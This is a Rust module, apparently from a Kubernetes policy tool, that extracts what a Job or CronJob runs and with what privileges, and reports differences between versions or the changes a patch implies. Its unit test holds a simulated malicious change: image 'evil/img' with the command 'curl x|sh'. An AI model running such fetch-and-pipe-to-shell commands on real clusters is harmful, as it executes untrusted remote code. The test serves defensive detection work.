//! The facts of a Job or CronJob that matter when comparing two versions of it: what runs
//! (images, commands, arguments, environment), as whom (service account), with what host
//! access, and when (schedule, suspend). Two versions with equal facts run the same code the
//! same way, whatever the apiserver defaulted in between.

use serde_json::Value;
use std::collections::BTreeMap;

/// The pod spec of a workload object (any kind the policy core knows).
pub fn pod_spec(object: &Value) -> Option<&Value> {
    jobwarden_policy::pod_template(object).ok().map(|t| t.spec)
}

/// One container's code and privileges.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct ContainerFacts {
    /// `image`.
    pub image: String,
    /// `command`.
    pub command: Vec<String>,
    /// `args`.
    pub args: Vec<String>,
    /// `env` as name → literal value (valueFrom shown as `<from:...>`).
    pub env: BTreeMap<String, String>,
    /// `securityContext.privileged`.
    pub privileged: bool,
    /// `securityContext.capabilities.add`.
    pub capabilities_added: Vec<String>,
}

/// What a version of a batch object runs and how.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct TemplateFacts {
    /// Containers (init, regular, ephemeral) by `<list>/<name>`.
    pub containers: BTreeMap<String, ContainerFacts>,
    /// `serviceAccountName` (or legacy `serviceAccount`).
    pub service_account: Option<String>,
    /// hostPath volume paths.
    pub host_paths: Vec<String>,
    /// hostPID / hostIPC / hostNetwork that are true.
    pub host_namespaces: Vec<&'static str>,
    /// `nodeName`, when pinned.
    pub node_name: Option<String>,
    /// CronJob `spec.schedule`.
    pub schedule: Option<String>,
    /// CronJob `spec.timeZone`.
    pub time_zone: Option<String>,
    /// `spec.suspend`.
    pub suspend: Option<bool>,
}

fn strings(v: Option<&Value>) -> Vec<String> {
    v.and_then(Value::as_array)
        .map(|a| {
            a.iter()
                .map(|s| match s {
                    Value::String(s) => s.clone(),
                    other => other.to_string(),
                })
                .collect()
        })
        .unwrap_or_default()
}

impl TemplateFacts {
    /// Extract the facts of a Job, CronJob or Pod object. Missing parts stay empty.
    pub fn of(object: &Value) -> TemplateFacts {
        let mut facts = TemplateFacts {
            schedule: object
                .pointer("/spec/schedule")
                .and_then(Value::as_str)
                .map(str::to_string),
            time_zone: object
                .pointer("/spec/timeZone")
                .and_then(Value::as_str)
                .map(str::to_string),
            suspend: object.pointer("/spec/suspend").and_then(Value::as_bool),
            ..TemplateFacts::default()
        };
        let Some(spec) = pod_spec(object) else {
            return facts;
        };
        facts.service_account = spec
            .get("serviceAccountName")
            .or_else(|| spec.get("serviceAccount"))
            .and_then(Value::as_str)
            .map(str::to_string);
        facts.node_name = spec
            .get("nodeName")
            .and_then(Value::as_str)
            .map(str::to_string);
        for (field, label) in [
            ("hostPID", "hostPID"),
            ("hostIPC", "hostIPC"),
            ("hostNetwork", "hostNetwork"),
        ] {
            if spec.get(field).and_then(Value::as_bool) == Some(true) {
                facts.host_namespaces.push(label);
            }
        }
        for vol in spec
            .get("volumes")
            .and_then(Value::as_array)
            .into_iter()
            .flatten()
        {
            if let Some(p) = vol.pointer("/hostPath/path").and_then(Value::as_str) {
                facts.host_paths.push(p.to_string());
            }
        }
        for list in ["initContainers", "containers", "ephemeralContainers"] {
            for (i, c) in spec
                .get(list)
                .and_then(Value::as_array)
                .into_iter()
                .flatten()
                .enumerate()
            {
                let name = c
                    .get("name")
                    .and_then(Value::as_str)
                    .map_or_else(|| format!("#{i}"), str::to_string);
                let mut env = BTreeMap::new();
                for e in c.get("env").and_then(Value::as_array).into_iter().flatten() {
                    let Some(k) = e.get("name").and_then(Value::as_str) else {
                        continue;
                    };
                    let v = match (e.get("value"), e.get("valueFrom")) {
                        (Some(Value::String(s)), _) => s.clone(),
                        (_, Some(from)) => format!("<from:{from}>"),
                        _ => String::new(),
                    };
                    env.insert(k.to_string(), v);
                }
                facts.containers.insert(
                    format!("{list}/{name}"),
                    ContainerFacts {
                        image: c
                            .get("image")
                            .and_then(Value::as_str)
                            .unwrap_or_default()
                            .to_string(),
                        command: strings(c.get("command")),
                        args: strings(c.get("args")),
                        env,
                        privileged: c
                            .pointer("/securityContext/privileged")
                            .and_then(Value::as_bool)
                            == Some(true),
                        capabilities_added: strings(c.pointer("/securityContext/capabilities/add")),
                    },
                );
            }
        }
        facts
    }

    /// Every image.
    pub fn images(&self) -> Vec<&str> {
        self.containers.values().map(|c| c.image.as_str()).collect()
    }

    /// Each container's command line (command then args), joined with spaces.
    pub fn command_lines(&self) -> Vec<String> {
        self.containers
            .values()
            .map(|c| {
                c.command
                    .iter()
                    .chain(c.args.iter())
                    .map(String::as_str)
                    .collect::<Vec<_>>()
                    .join(" ")
            })
            .filter(|l| !l.is_empty())
            .collect()
    }

    /// What differs between `self` (before) and `after` in what runs and how: one line per
    /// difference, in a stable order. Schedule and suspend are compared too.
    pub fn changes_to(&self, after: &TemplateFacts) -> Vec<Change> {
        let mut out = Vec::new();
        for (name, new) in &after.containers {
            match self.containers.get(name) {
                None => out.push(Change::new(
                    ChangeKind::ContainerAdded,
                    name,
                    "",
                    &new.image,
                )),
                Some(old) => {
                    if old.image != new.image {
                        out.push(Change::new(ChangeKind::Image, name, &old.image, &new.image));
                    }
                    if old.command != new.command || old.args != new.args {
                        out.push(Change::new(
                            ChangeKind::Command,
                            name,
                            &[old.command.clone(), old.args.clone()].concat().join(" "),
                            &[new.command.clone(), new.args.clone()].concat().join(" "),
                        ));
                    }
                    if old.env != new.env {
                        out.push(Change::new(ChangeKind::Env, name, "", ""));
                    }
                    if old.privileged != new.privileged
                        || old.capabilities_added != new.capabilities_added
                    {
                        out.push(Change::new(ChangeKind::Privileges, name, "", ""));
                    }
                }
            }
        }
        for name in self.containers.keys() {
            if !after.containers.contains_key(name) {
                out.push(Change::new(ChangeKind::ContainerRemoved, name, "", ""));
            }
        }
        if self.service_account != after.service_account {
            out.push(Change::new(
                ChangeKind::ServiceAccount,
                "",
                self.service_account.as_deref().unwrap_or("default"),
                after.service_account.as_deref().unwrap_or("default"),
            ));
        }
        if self.host_paths != after.host_paths || self.host_namespaces != after.host_namespaces {
            out.push(Change::new(
                ChangeKind::HostAccess,
                "",
                &self.host_paths.join(","),
                &after.host_paths.join(","),
            ));
        }
        if self.node_name != after.node_name {
            out.push(Change::new(
                ChangeKind::NodeName,
                "",
                self.node_name.as_deref().unwrap_or(""),
                after.node_name.as_deref().unwrap_or(""),
            ));
        }
        // Compared only when both versions are known: a version learned from a Job has no schedule.
        if self.schedule.is_some() && after.schedule.is_some() && self.schedule != after.schedule {
            out.push(Change::new(
                ChangeKind::Schedule,
                "",
                self.schedule.as_deref().unwrap_or(""),
                after.schedule.as_deref().unwrap_or(""),
            ));
        }
        if self.suspend == Some(true) && after.suspend != Some(true) {
            out.push(Change::new(ChangeKind::Resumed, "", "true", "false"));
        }
        out
    }
}

/// What kind of difference.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum ChangeKind {
    /// A container's image changed.
    Image,
    /// A container's command or args changed.
    Command,
    /// A container's environment changed.
    Env,
    /// A container's privileges changed.
    Privileges,
    /// A container was added.
    ContainerAdded,
    /// A container was removed.
    ContainerRemoved,
    /// The service account changed.
    ServiceAccount,
    /// hostPath volumes or host namespaces changed.
    HostAccess,
    /// The pod was pinned to another node.
    NodeName,
    /// The CronJob's schedule changed.
    Schedule,
    /// `suspend` went from true to false: the CronJob was re-armed.
    Resumed,
}

impl ChangeKind {
    /// Name for evidence.
    pub fn as_str(self) -> &'static str {
        match self {
            ChangeKind::Image => "image",
            ChangeKind::Command => "command",
            ChangeKind::Env => "env",
            ChangeKind::Privileges => "privileges",
            ChangeKind::ContainerAdded => "container_added",
            ChangeKind::ContainerRemoved => "container_removed",
            ChangeKind::ServiceAccount => "service_account",
            ChangeKind::HostAccess => "host_access",
            ChangeKind::NodeName => "node_name",
            ChangeKind::Schedule => "schedule",
            ChangeKind::Resumed => "resumed",
        }
    }

    /// True for changes to the code that runs or its privileges (not merely when it runs).
    pub fn changes_code(self) -> bool {
        !matches!(
            self,
            ChangeKind::Schedule | ChangeKind::Resumed | ChangeKind::ContainerRemoved
        )
    }
}

/// One difference between two versions.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Change {
    /// What changed.
    pub kind: ChangeKind,
    /// The container, when the change is a container's.
    pub container: String,
    /// Before.
    pub before: String,
    /// After.
    pub after: String,
}

impl Change {
    fn new(kind: ChangeKind, container: &str, before: &str, after: &str) -> Change {
        Change {
            kind,
            container: container.to_string(),
            before: before.to_string(),
            after: after.to_string(),
        }
    }

    /// One line for a person.
    pub fn describe(&self) -> String {
        let who = if self.container.is_empty() {
            String::new()
        } else {
            format!(" of {}", self.container)
        };
        match self.kind {
            ChangeKind::Env | ChangeKind::Privileges | ChangeKind::ContainerRemoved => {
                format!("{}{} changed", self.kind.as_str(), who)
            }
            _ => format!(
                "{}{}: {:?} -> {:?}",
                self.kind.as_str(),
                who,
                self.before,
                self.after
            ),
        }
    }
}

/// When there is no earlier version to compare with, what a patch body says it changes: the
/// kinds of change implied by the fields it sets (JSON patch paths or merge-patch keys).
pub fn changes_named_by_patch(patch: &Value) -> Vec<ChangeKind> {
    let mut paths = Vec::new();
    match patch {
        Value::Array(ops) => {
            for op in ops {
                if let Some(p) = op.get("path").and_then(Value::as_str) {
                    let value = op.get("value").cloned().unwrap_or(Value::Null);
                    paths.push((p.to_string(), value));
                }
            }
        }
        Value::Object(_) => collect_leaf_paths(patch, String::new(), &mut paths, 0),
        _ => {}
    }
    let mut kinds = Vec::new();
    for (path, value) in paths {
        let lower = path.to_ascii_lowercase();
        let kind = if lower.ends_with("/image") || lower.contains("/image/") {
            Some(ChangeKind::Image)
        } else if lower.contains("/command") || lower.contains("/args") {
            Some(ChangeKind::Command)
        } else if lower.contains("/env") {
            Some(ChangeKind::Env)
        } else if lower.ends_with("/schedule") {
            Some(ChangeKind::Schedule)
        } else if lower.ends_with("/suspend") && value == Value::Bool(false) {
            Some(ChangeKind::Resumed)
        } else if lower.contains("serviceaccount") {
            Some(ChangeKind::ServiceAccount)
        } else if lower.contains("hostpath")
            || lower.contains("/hostpid")
            || lower.contains("/hostnetwork")
            || lower.contains("/hostipc")
        {
            Some(ChangeKind::HostAccess)
        } else if lower.contains("securitycontext") {
            Some(ChangeKind::Privileges)
        } else if lower.ends_with("/nodename") {
            Some(ChangeKind::NodeName)
        } else {
            None
        };
        if let Some(k) = kind
            && !kinds.contains(&k)
        {
            kinds.push(k);
        }
    }
    kinds.sort();
    kinds
}

fn collect_leaf_paths(v: &Value, prefix: String, out: &mut Vec<(String, Value)>, depth: usize) {
    if depth > 64 {
        return;
    }
    match v {
        Value::Object(map) => {
            for (k, child) in map {
                collect_leaf_paths(child, format!("{prefix}/{k}"), out, depth + 1);
            }
        }
        Value::Array(items) => {
            for (i, child) in items.iter().enumerate() {
                collect_leaf_paths(child, format!("{prefix}/{i}"), out, depth + 1);
            }
        }
        other => out.push((prefix, other.clone())),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn cronjob(image: &str, cmd: &[&str], schedule: &str, suspend: bool) -> Value {
        json!({"kind":"CronJob","spec":{"schedule":schedule,"suspend":suspend,"jobTemplate":{"spec":{"template":{"spec":{
            "containers":[{"name":"main","image":image,"command":cmd}]}}}}}})
    }

    #[test]
    fn diff_finds_image_command_schedule_and_resume() {
        let before = TemplateFacts::of(&cronjob("busybox", &["date"], "0 3 * * *", true));
        let after = TemplateFacts::of(&cronjob(
            "evil/img",
            &["sh", "-c", "curl x|sh"],
            "* * * * *",
            false,
        ));
        let kinds: Vec<_> = before.changes_to(&after).iter().map(|c| c.kind).collect();
        assert_eq!(
            kinds,
            vec![
                ChangeKind::Image,
                ChangeKind::Command,
                ChangeKind::Schedule,
                ChangeKind::Resumed
            ]
        );
        assert!(before.changes_to(&before).is_empty());
    }

    #[test]
    fn patch_bodies_name_their_changes() {
        let merge = json!({"spec":{"suspend":false,"jobTemplate":{"spec":{"template":{"spec":{"containers":[{"name":"main","image":"x"}]}}}}}});
        assert_eq!(
            changes_named_by_patch(&merge),
            vec![ChangeKind::Image, ChangeKind::Resumed]
        );
        let jp = json!([{"op":"replace","path":"/spec/schedule","value":"* * * * *"}]);
        assert_eq!(changes_named_by_patch(&jp), vec![ChangeKind::Schedule]);
        let benign = json!({"metadata":{"labels":{"team":"a"}}});
        assert!(changes_named_by_patch(&benign).is_empty());
    }
}
